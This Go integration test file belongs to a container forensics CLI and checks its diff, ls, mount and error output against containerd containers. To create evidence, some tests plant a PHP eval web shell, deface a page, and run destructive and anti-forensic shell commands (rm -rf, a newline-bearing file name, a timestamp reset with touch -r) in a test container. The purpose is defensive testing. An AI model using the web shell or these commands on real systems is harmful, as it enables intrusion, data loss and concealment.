package integration

import (
	"encoding/json"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/containerd/containerd/v2/client"
	"github.com/containerd/containerd/v2/pkg/oci"
	"golang.org/x/sys/unix"

	"github.com/ctrforensics/ctrforensics/internal/testimage"
	"github.com/ctrforensics/ctrforensics/internal/testutil"
)

var update = flag.Bool("update", false, "rewrite the golden files of the CLI tests")

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	testutil.Golden(t, filepath.Join("testdata", name), []byte(got), *update)
}

// TestDiffGolden pins the exact output of the article's attack.
func TestDiffGolden(t *testing.T) {
	c := h.runContainer(t, "golden", "overlayfs")
	h.attack(t, c, scenarios(t)[0].script+"\n"+`cd /tmp && touch "$(printf 'evil\nname')"; rm /etc/app/config.ini
rm -rf /opt/data; touch -r /var/www/html/about.html /var/www/html/about.html`)
	golden(t, "diff_attack.golden", h.mustCLI(t, "diff", c.id))
	golden(t, "diff_attack_all.golden", h.mustCLI(t, "diff", "--all", c.id))
}

// TestUsageErrors checks every user error is one line naming the problem and
// the fix, with exit code 2.
func TestUsageErrors(t *testing.T) {
	c := h.runContainer(t, "usage", "overlayfs")
	full := t.TempDir()
	if err := os.WriteFile(filepath.Join(full, "x"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	notSocket := filepath.Join(t.TempDir(), "plain-file")
	if err := os.WriteFile(notSocket, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	ns := []string{"--address", h.daemon.Address, "-n", h.daemon.Namespace}
	tests := []struct {
		name    string
		args    []string
		as      string
		wantErr string
	}{
		{"unknown container", append(ns, "diff", "nope"), "", `container "nope" not found in namespace "` + h.daemon.Namespace + `"`},
		{"namespace that does not exist", []string{"--address", h.daemon.Address, "-n", "elsewhere", "diff", c.id}, "",
			`namespace "elsewhere" does not exist (the daemon has: `},
		{"namespace that does not exist, ls", []string{"--address", h.daemon.Address, "-n", "elsewhere", "ls"}, "",
			h.daemon.Namespace},
		{"neither container nor image", append(ns, "mount", "--state-dir", h.stateDir, "nope", t.TempDir()), "",
			`neither a container nor an image named "nope" exists in namespace "` + h.daemon.Namespace + `"`},
		{"umount as non-root", append(ns, "umount", "--state-dir", h.stateDir, full), "nobody", "must run as root"},
		{"unknown command", append(ns, "dif", c.id), "", `unknown command "dif"`},
		{"daemon not running", []string{"--address", "/run/ctrforensics-test-no-such.sock", "ls"}, "",
			"cannot reach containerd at /run/ctrforensics-test-no-such.sock"},
		{"address is not a socket", []string{"--address", notSocket, "ls"}, "", "cannot reach containerd at " + notSocket},
		{"not root", append(ns, "ls"), "nobody", "must run as root"},
		{"mount on a non-empty dir", append(ns, "mount", "--state-dir", h.stateDir, c.id, full), "", "is not empty"},
		{"umount of something else", append(ns, "umount", "--state-dir", h.stateDir, full), "", "is not a ctrforensics mount"},
		{"bad format", append(ns, "diff", "--format", "xml", c.id), "", `unknown --format "xml"`},
		{"bad method", append(ns, "diff", "--method", "fast", c.id), "", `unknown --method "fast"`},
		{"bad size", append(ns, "diff", "--max-hash-bytes", "lots", c.id), "", `bad --max-hash-bytes "lots"`},
		{"flag after argument", append(ns, "diff", c.id, "--format", "xml"), "", `unknown --format "xml"`},
		{"global flags after the command", []string{"diff", "nope", "-n", h.daemon.Namespace, "--address=" + h.daemon.Address}, "",
			`container "nope" not found in namespace "` + h.daemon.Namespace + `"`},
		{"missing argument", append(ns, "diff"), "", "diff takes 1 argument(s): CONTAINER"},
		{"unknown flag", append(ns, "diff", "--colour", c.id), "", "flag provided but not defined: -colour (see `ctrforensics diff --help`)"},
		{"unknown subcommand flag", append(ns, "image", "files", "--colour", "x"), "", "see `ctrforensics image files --help`"},
		{"collect without output", append(ns, "collect", c.id), "", "missing --output"},
		{"custody without action", append(ns, "custody", "add", "--actor", "bob", "x"), "", "missing --action (see `ctrforensics custody add --help`)"},
		{"negative layer", append(ns, "image", "cat", "--layer", "-5", "img", "/x"), "", "layers are numbered from 0"},
		{"unknown file type", append(ns, "image", "files", "--type", "socks", testimage.WebImageName), "", `unknown --type "socks"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := h.cliWith(t, func(cmd *exec.Cmd) {
				if tt.as == "nobody" {
					nobody(cmd)
				}
			}, tt.args...)
			if r.code != 2 || r.stdout != "" {
				t.Errorf("exit %d, want 2 and nothing on stdout (stdout %q, stderr %q)", r.code, r.stdout, r.stderr)
			}
			lines := strings.Split(strings.TrimSuffix(r.stderr, "\n"), "\n")
			if len(lines) != 1 || !strings.HasPrefix(lines[0], "ctrforensics: ") || !strings.Contains(lines[0], tt.wantErr) {
				t.Errorf("stderr %q, want one line with %q", r.stderr, tt.wantErr)
			}
		})
	}
}

// TestContainerPrefix finds containers by a unique prefix of their ID, as
// docker and nerdctl do, and names the candidates of an ambiguous one.
func TestContainerPrefix(t *testing.T) {
	ctx := h.ctx(t)
	ids := []string{strings.Repeat("c0ffee01", 8), strings.Repeat("c0ffee02", 8)}
	for _, id := range ids {
		ctr, err := h.client.NewContainer(ctx, id, client.WithImage(h.images["overlayfs"]), client.WithSnapshotter("overlayfs"),
			client.WithNewSnapshot(id, h.images["overlayfs"]), client.WithNewSpec(oci.WithImageConfig(h.images["overlayfs"])))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ctr.Delete(ctx, client.WithSnapshotCleanup) })
	}
	// A unique prefix is the container: its diff (of a container that never
	// ran: nothing) and its collected record name the whole ID.
	if r := h.cli(t, "diff", "c0ffee01"); r.code != 0 || r.stdout != "" {
		t.Errorf("diff of a unique prefix: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	out := filepath.Join(t.TempDir(), "bag")
	if res := h.mustCLI(t, "collect", "c0ffee02", "-o", out); !strings.Contains(res, "collected container "+ids[1]) {
		t.Errorf("collect of a unique prefix:\n%s", res)
	}
	r := h.cli(t, "diff", "c0ffee0")
	if r.code != 2 || strings.Count(r.stderr, "\n") != 1 || !strings.Contains(r.stderr, `container ID prefix "c0ffee0" is ambiguous`) ||
		!strings.Contains(r.stderr, ids[0]) || !strings.Contains(r.stderr, ids[1]) {
		t.Errorf("ambiguous prefix: exit %d, stderr %q", r.code, r.stderr)
	}
	// Shell completion offers the IDs for the CONTAINER argument.
	if comp := h.mustCLI(t, "diff", "--generate-shell-completion"); !strings.Contains(comp, ids[0]+"\n") || !strings.Contains(comp, ids[1]+"\n") {
		t.Errorf("completion of diff's CONTAINER:\n%s", comp)
	}
	// The table shows 12 characters, --no-trunc the whole ID.
	table := h.mustCLI(t, "ls")
	if !strings.Contains(table, "c0ffee01c0ff ") || strings.Contains(table, ids[0]) {
		t.Errorf("ls does not show 12-character IDs:\n%s", table)
	}
	if whole := h.mustCLI(t, "ls", "--no-trunc"); !strings.Contains(whole, ids[0]+" ") || !strings.Contains(whole, ids[1]+" ") {
		t.Errorf("ls --no-trunc:\n%s", whole)
	}
}

// TestEmptyNamespace checks a namespace that exists but holds nothing is an
// empty listing, not an error.
func TestEmptyNamespace(t *testing.T) {
	ctx := h.ctx(t)
	ns := h.daemon.Namespace + "-empty"
	if err := h.client.NamespaceService().Create(ctx, ns, nil); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.client.NamespaceService().Delete(ctx, ns) })
	for _, args := range [][]string{{"ls"}, {"image", "ls"}} {
		r := h.cliWith(t, nil, append([]string{"--address", h.daemon.Address, "-n", ns}, args...)...)
		if r.code != 0 || strings.Count(r.stdout, "\n") != 1 || r.stderr != "" {
			t.Errorf("%q in an empty namespace: exit %d, stdout %q, stderr %q", args, r.code, r.stdout, r.stderr)
		}
	}
}

// TestLs lists containers: a running one, and a Kubernetes-style one with CRI
// labels and a read-only root filesystem that never ran.
func TestLs(t *testing.T) {
	ctx := h.ctx(t)
	c := h.runContainer(t, "ls-running", "overlayfs")
	k8s, err := h.client.NewContainer(ctx, "ls-k8s",
		client.WithImage(h.images["overlayfs"]),
		client.WithSnapshotter("overlayfs"),
		client.WithNewSnapshot("ls-k8s", h.images["overlayfs"]),
		client.WithContainerLabels(map[string]string{
			"io.kubernetes.pod.namespace":  "shop",
			"io.kubernetes.pod.name":       "web-7d9f",
			"io.kubernetes.container.name": "php",
		}),
		client.WithNewSpec(oci.WithImageConfig(h.images["overlayfs"]), oci.WithRootFSReadonly()),
	)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { k8s.Delete(ctx, client.WithSnapshotCleanup) })

	table := h.mustCLI(t, "ls")
	lines := strings.Split(strings.TrimSpace(table), "\n")
	if got := strings.Fields(lines[0]); strings.Join(got, " ") != "CONTAINER IMAGE STATUS SNAPSHOTTER RO-ROOTFS CREATED POD-NAMESPACE POD NAME" {
		t.Errorf("header %q", lines[0])
	}
	// Columns are separated by at least three spaces; a state may hold one.
	columns := regexp.MustCompile(`\s{3,}`)
	rows := map[string][]string{}
	for _, l := range lines[1:] {
		f := columns.Split(strings.TrimSpace(l), -1)
		rows[f[0]] = f
	}
	if r := rows[c.id]; len(r) != 9 || r[2] != "running" || r[3] != "overlayfs" || r[4] != "false" || r[6] != "-" || r[7] != "-" || r[8] != "-" {
		t.Errorf("running container row %q", r)
	}
	if r := rows["ls-k8s"]; len(r) != 9 || r[2] != "no task" || r[4] != "true" || r[6] != "shop" || r[7] != "web-7d9f" || r[8] != "php" {
		t.Errorf("kubernetes container row %q", r)
	}

	var k8sJSON struct {
		Status         string `json:"status"`
		ReadOnlyRootfs bool   `json:"readonly_rootfs"`
		PodNamespace   string `json:"pod_namespace"`
		Pod            string `json:"pod"`
		ContainerName  string `json:"container_name"`
		Image          string `json:"image"`
		Namespace      string `json:"namespace"`
	}
	for _, line := range strings.Split(strings.TrimSpace(h.mustCLI(t, "ls", "--format", "json")), "\n") {
		if strings.Contains(line, `"id":"ls-k8s"`) {
			if err := json.Unmarshal([]byte(line), &k8sJSON); err != nil {
				t.Fatal(err)
			}
		}
	}
	if k8sJSON.Status != "no task" || !k8sJSON.ReadOnlyRootfs || k8sJSON.Pod != "web-7d9f" ||
		k8sJSON.PodNamespace != "shop" || k8sJSON.ContainerName != "php" || k8sJSON.Namespace != h.daemon.Namespace {
		t.Errorf("kubernetes container JSON %+v", k8sJSON)
	}

	all := h.mustCLI(t, "ls", "-A")
	if !strings.HasPrefix(all, "NAMESPACE") || !strings.Contains(all, h.daemon.Namespace) {
		t.Errorf("ls -A:\n%s", all)
	}
}

// TestMountBrowse mounts an attacked container, its upper layer alone and its
// image, reads what a responder would, and unmounts.
func TestMountBrowse(t *testing.T) {
	c := h.runContainer(t, "browse", "overlayfs")
	h.attack(t, c, scenarios(t)[0].script)
	host := captureHost(t)
	dir := filepath.Join(t.TempDir(), "view") // created by mount
	read := func(p string) string {
		b, err := os.ReadFile(filepath.Join(dir, p))
		if err != nil {
			return "<" + err.Error() + ">"
		}
		return string(b)
	}
	tests := []struct {
		name  string
		args  []string
		check func(t *testing.T)
	}{
		{"container", []string{c.id}, func(t *testing.T) {
			if got := read("var/www/html/shell.php"); got != "<?php eval($_GET['cmd']); ?>\n" {
				t.Errorf("shell.php = %q", got)
			}
			if got := read("var/www/html/about.html"); !strings.Contains(got, "About us") {
				t.Errorf("about.html from the image = %q", got)
			}
		}},
		{"upper only", []string{"--upper-only", c.id}, func(t *testing.T) {
			if got := read("var/www/html/index.html"); got != "<h1>hacked by x</h1>\n" {
				t.Errorf("index.html = %q", got)
			}
			if _, err := os.Stat(filepath.Join(dir, "var/www/html/about.html")); !os.IsNotExist(err) {
				t.Errorf("the upper layer alone has no about.html: %v", err)
			}
		}},
		{"image", []string{"docker.io/ctrforensics/demo-web:1"}, func(t *testing.T) {
			if got := read("var/www/html/index.html"); !strings.Contains(got, "Welcome") {
				t.Errorf("image index.html = %q", got)
			}
			if _, err := os.Stat(filepath.Join(dir, "var/www/html/shell.php")); !os.IsNotExist(err) {
				t.Errorf("the image has no shell.php: %v", err)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := h.mustCLI(t, append([]string{"mount", "--state-dir", h.stateDir}, append(tt.args, dir)...)...)
			if !strings.Contains(out, "read-only at "+dir) || !strings.Contains(out, "ctrforensics umount "+dir) {
				t.Errorf("mount said %q", out)
			}
			tt.check(t)
			if err := os.WriteFile(filepath.Join(dir, "x"), nil, 0o644); err == nil {
				t.Error("the mount is writable")
			}
			var st unix.Statfs_t
			want := int64(unix.ST_RDONLY | unix.ST_NODEV | unix.ST_NOSUID | unix.ST_NOEXEC)
			if err := unix.Statfs(dir, &st); err != nil || st.Flags&want != want {
				t.Errorf("mount flags %#x (%v), want ro, nodev, nosuid, noexec", st.Flags, err)
			}
			if r := h.cli(t, "mount", "--state-dir", h.stateDir, c.id, dir); r.code != 2 {
				t.Errorf("mounting twice on %s: exit %d", dir, r.code)
			}
			out = h.mustCLI(t, "umount", "--state-dir", h.stateDir, dir)
			if !strings.Contains(out, "mount "+dir) || !strings.Contains(out, "lease ctrforensics-") {
				t.Errorf("umount said %q", out)
			}
			compareHost(t, "after umount", host, captureHost(t))
		})
	}
}
